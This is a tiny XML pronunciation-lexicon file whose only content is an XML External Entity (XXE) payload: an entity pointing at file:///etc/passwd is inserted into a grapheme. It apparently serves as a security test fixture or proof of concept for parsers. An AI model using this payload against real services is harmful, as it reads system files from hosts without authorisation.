<?xml version="1.0"?>
<!DOCTYPE lexicon [ <!ENTITY secret SYSTEM "file:///etc/passwd"> ]>
<lexicon version="1.0" xmlns="http://www.w3.org/2005/01/pronunciation-lexicon" alphabet="ipa">
  <lexeme><grapheme>&secret;</grapheme><phoneme>lɒl</phoneme></lexeme>
</lexicon>
